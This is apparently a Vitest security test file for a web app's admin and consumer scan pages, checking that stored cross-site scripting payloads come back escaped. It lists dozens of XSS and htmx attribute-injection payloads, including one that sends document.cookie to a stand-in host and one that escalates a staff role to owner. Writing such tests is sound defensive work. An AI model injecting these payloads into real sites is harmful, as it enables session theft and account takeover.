import { eq } from 'drizzle-orm'
import { beforeAll, describe, expect, it } from 'vitest'
import { activateCodes } from '../../src/batches/code-actions-store.ts'
import { createDownloadLink } from '../../src/batches/print-export-store.ts'
import { assembleToken } from '../../src/codes/token.ts'
import { brandDb } from '../../src/db/brand-scope.ts'
import { brands, codes, products } from '../../src/db/schema.ts'
import {
  buildTestApp,
  type Client,
  type InsertedBrand,
  insertBatch,
  insertBrand,
  request,
  signInAs,
  type TestApp,
} from '../support/test-app.ts'

/**
 * Stored XSS: what staff type (product names and notes, image URLs, lots, invited names) comes
 * back on every admin page, and product and brand names on the consumer's scan page. Every payload
 * must come back as text. htmx makes attribute injection as dangerous as a script tag: an injected
 * `hx-get`/`hx-on:click` runs with the page's own origin and CSRF header, and the CSP cannot stop it.
 */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<script\x20type="text/javascript">alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror=alert(1)//',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '"/><svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(document.cookie)',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<object data="javascript:alert(1)">',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.test/">',
  '<form action="//evil.test"><button>go</button></form>',
  '<style>@import "//evil.test/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">',
  '"><div hx-get="/admin/staff" hx-trigger="load">',
  '<div hx-get="//evil.test" hx-trigger="load" hx-swap="outerHTML">',
  '" hx-get="//evil.test" hx-trigger="load',
  "' hx-post='/admin/sign-out' hx-trigger='load",
  '<button hx-on:click="alert(1)">x</button>',
  '" hx-on:click="alert(1)',
  '"><b hx-on::load="alert(1)">',
  '<div hx-on:htmx:load="fetch(`//evil.test?`+document.cookie)">',
  '" hx-vals=\'{"role":"owner"}\' hx-post="/admin/staff/1/role',
  '<div hx-headers=\'{"X-CSRF-Token":"x"}\'>',
  '<template><img src=x onerror=alert(1)></template>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal text ${…}
  '${alert(1)}',
  '<%= 7*7 %>{{7*7}}',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  '\u202e<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<select><template><style><img src=x onerror=alert(1)>',
  '"\'><img src=x onerror=alert`1`>',
]

/** Lots are limited to 20 GS1 characters, which include < > " ' & = ( ). */
const LOT_PAYLOADS = [
  '<svg/onload=alert()>',
  '"><b/onclick=x()>',
  "'onclick='x()'",
  '<b>"&amp;</b>',
  '"hx-get="/x"',
]

/** The validator refuses quotes, brackets and spaces in image URLs; these are the tricks left. */
const IMAGE_URL_PAYLOADS = [
  'https://evil.test/x.png?a=1&quot;onerror=alert(1)',
  'https://evil.test/&#34;onerror=alert(1)',
  'https://evil.test/javascript:alert(1)',
  'https://evil.test/x?hx-get=/admin/staff&hx-trigger=load',
]

/** Markup characters that, left unescaped, let a payload become a tag or an attribute. */
const DANGEROUS = /[<>"']/

function expectEscaped(html: string, payload: string, where: string): void {
  // (A payload of entities such as `&lt;script&gt;` is harmless either way: it stays text.)
  if (DANGEROUS.test(payload)) {
    expect(html.includes(payload), `${where} shows ${JSON.stringify(payload)} unescaped`).toBe(false)
  }
  // Our own scripts are served from /static; any other script tag came from data.
  const withoutOwn = html.replace(/<script\b[^>]*\bsrc="\/static\/[^"]*"[^>]*><\/script>/gi, '')
  expect(/<script/i.test(withoutOwn), `${where}: a <script> tag`).toBe(false)
  // An injected attribute would sit inside a tag: `<tag … onerror=` or `<tag … hx-on…=` straight
  // from the payload. Our own markup uses neither event handlers nor hx-on.
  for (const found of html.match(/<[a-z][^>]*>/gi) ?? []) {
    // Escaped output never holds a raw quote inside a value, so quoted values can be dropped.
    const tag = found.replace(/"[^"]*"/g, '""')
    expect(/\son[a-z]+\s*=/i.test(tag), `${where}: event-handler attribute in ${tag}`).toBe(false)
    expect(/\shx-on[:-]/i.test(tag), `${where}: hx-on attribute in ${tag}`).toBe(false)
    expect(
      /\shx-(get|post|vals|headers)=["']?(\/\/|\/x|\/admin\/staff["'\s>]|\/admin\/sign-out)/i.test(tag),
      `${where}: injected ${tag}`,
    ).toBe(false)
  }
}

type Fixture = {
  t: TestApp
  brand: InsertedBrand
  owner: Client
  productIds: number[]
  batchIds: number[]
  tokens: string[]
}

let f: Fixture

beforeAll(async () => {
  const t = buildTestApp()
  const brand = await insertBrand(t, { slug: 'xss' })
  const owner = await signInAs(t, brand.ownerId)
  const productIds: number[] = []
  const batchIds: number[] = []
  const tokens: string[] = []
  // Stored through the real forms, as a staff member would type them.
  for (const [i, payload] of PAYLOADS.entries()) {
    const res = await owner.post('/admin/products', {
      sku: `X-${i}`,
      name: payload.slice(0, 200),
      notes: payload,
      points: '1',
      imageUrl: IMAGE_URL_PAYLOADS[i % IMAGE_URL_PAYLOADS.length]!,
    })
    expect(res.status, `product ${i}: ${await res.clone().text()}`).toBe(303)
    const product = t.db
      .select()
      .from(products)
      .where(eq(products.sku, `X-${i}`))
      .get()!
    productIds.push(product.id)
    const batch = insertBatch(t, brand.brandId, product.id, {
      quantity: 1,
      lot: LOT_PAYLOADS[i % LOT_PAYLOADS.length],
    })
    batchIds.push(batch.id)
    activateCodes(
      brandDb(t.db, brand.brandId),
      { staffId: null, label: 'test' },
      batch.id,
      null,
      t.clock.now(),
    )
    const row = t.db.select().from(codes).where(eq(codes.batchId, batch.id)).get()!
    tokens.push(assembleToken(row.kid, row.serial, row.tag))
  }
  for (const [i, payload] of PAYLOADS.entries()) {
    const res = await owner.post('/admin/staff', {
      email: `x${i}@xss.test`,
      name: payload.slice(0, 100),
      role: 'operator',
    })
    expect(res.status, `invite ${i}`).toBe(200)
  }
  f = { t, brand, owner, productIds, batchIds, tokens }
})

describe('stored payloads come back as text', () => {
  it('uses at least 50 payloads, including hx-* attribute injections', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50)
    expect(PAYLOADS.filter((p) => p.includes('hx-')).length).toBeGreaterThanOrEqual(8)
  })

  it('stored every payload exactly as typed (escaping happens on output, not input)', () => {
    const names = f.t.db.select({ name: products.name, notes: products.notes }).from(products).all()
    for (const p of PAYLOADS)
      expect(names.some((n) => n.name === p.trim() && n.notes === p.trim())).toBe(true)
  })

  it('refuses image URLs that are not http(s) or that carry quotes or brackets', async () => {
    for (const imageUrl of [
      'javascript:alert(1)',
      'https://x/"onerror=alert(1)',
      "https://x/'a",
      'https://x/<b>',
      'data:text/html,x',
    ]) {
      const res = await f.owner.post('/admin/products', { sku: 'BAD-IMG', name: 'x', imageUrl })
      expect(res.status, imageUrl).toBe(422)
    }
  })

  it('escapes them on the products list', async () => {
    const html = await (await f.owner.get('/admin/products')).text()
    for (const p of PAYLOADS) expectEscaped(html, p.trim(), 'products list')
  })

  it('escapes name, notes and image URL on every product edit page', async () => {
    for (const [i, id] of f.productIds.entries()) {
      const res = await f.owner.get(`/admin/products/${id}`)
      expect(res.status).toBe(200)
      const html = await res.text()
      expectEscaped(html, PAYLOADS[i]!.trim(), `product ${id} edit`)
      expectEscaped(html, IMAGE_URL_PAYLOADS[i % IMAGE_URL_PAYLOADS.length]!, `product ${id} edit (image)`)
    }
  })

  it('escapes them on the batch list', async () => {
    const html = await (await f.owner.get('/admin/batches')).text()
    for (const p of PAYLOADS) expectEscaped(html, p.trim(), 'batch list')
    for (const lot of LOT_PAYLOADS) expectEscaped(html, lot, 'batch list (lot)')
  })

  it('escapes product name and lot on every batch page and its code list', async () => {
    for (const [i, id] of f.batchIds.entries()) {
      for (const path of [`/admin/batches/${id}`, `/admin/batches/${id}/codes`]) {
        const res = await f.owner.get(path)
        expect(res.status, path).toBe(200)
        const html = await res.text()
        expectEscaped(html, PAYLOADS[i]!.trim(), path)
        expectEscaped(html, LOT_PAYLOADS[i % LOT_PAYLOADS.length]!, `${path} (lot)`)
      }
    }
  })

  it('escapes the product name on a printing house’s download page', async () => {
    for (const [i, id] of f.batchIds.entries()) {
      const { token } = createDownloadLink(
        brandDb(f.t.db, f.brand.brandId),
        { staffId: null, label: 'test' },
        { batchId: id, format: 'csv', recipient: PAYLOADS[i]!, ttlHours: 48 },
        f.t.clock.now(),
      )
      const res = await request(f.t.app, `/dl/${token}`)
      expect(res.status, `printer link of batch ${id}`).toBe(200)
      expectEscaped(await res.text(), PAYLOADS[i]!.trim(), `printer link of batch ${id}`)
    }
  })

  it('escapes them in a code lookup, and escapes the query itself', async () => {
    for (const [i, token] of f.tokens.entries()) {
      const res = await f.owner.get(`/admin/codes?q=${encodeURIComponent(token)}`)
      expect(res.status).toBe(200)
      const html = await res.text()
      expectEscaped(html, PAYLOADS[i]!.trim(), `code lookup ${token}`)
      expectEscaped(html, LOT_PAYLOADS[i % LOT_PAYLOADS.length]!, `code lookup ${token} (lot)`)
    }
    for (const p of PAYLOADS) {
      const html = await (await f.owner.get(`/admin/codes?q=${encodeURIComponent(p)}`)).text()
      expectEscaped(html, p, 'code lookup query')
    }
  })

  it('escapes invited names on the staff page', async () => {
    const html = await (await f.owner.get('/admin/staff')).text()
    for (const p of PAYLOADS) expectEscaped(html, p.slice(0, 100).trim(), 'staff page')
  })

  it('escapes what a refused invitation form echoes back', async () => {
    for (const p of PAYLOADS.slice(0, 20)) {
      const res = await f.owner.post('/admin/staff', { email: p, name: p, role: 'operator' })
      expect(res.status).toBe(422)
      expectEscaped(await res.text(), p, 'invite form (422)')
    }
  })

  it('escapes them on the audit page', async () => {
    let html = ''
    for (let path: string | undefined = '/admin/audit'; path; ) {
      const page = await (await f.owner.get(path)).text()
      html += page
      path = /href="(\/admin\/audit\?before=\d+)"/.exec(page)?.[1]
    }
    expect(html).toContain('product.create')
    for (const p of PAYLOADS) expectEscaped(html, p.trim(), 'audit page')
  })

  it('escapes product and brand names on the consumer scan page', async () => {
    for (const [i, token] of f.tokens.entries()) {
      const brandName = PAYLOADS[(i + 7) % PAYLOADS.length]!
      f.t.db.update(brands).set({ name: brandName }).where(eq(brands.id, f.brand.brandId)).run()
      // Each scan from a new device and an advanced clock, so no rate limit or repeat window applies.
      f.t.clock.advance(3_600_000)
      const res = await request(f.t.app, `/C/${token}`)
      expect(res.status, `scan ${token}`).toBe(200)
      const html = await res.text()
      expectEscaped(html, PAYLOADS[i]!.trim(), `scan page ${token}`)
      expectEscaped(html, brandName, `scan page ${token} (brand)`)
      expectEscaped(html, LOT_PAYLOADS[i % LOT_PAYLOADS.length]!, `scan page ${token} (lot)`)
    }
  })
})
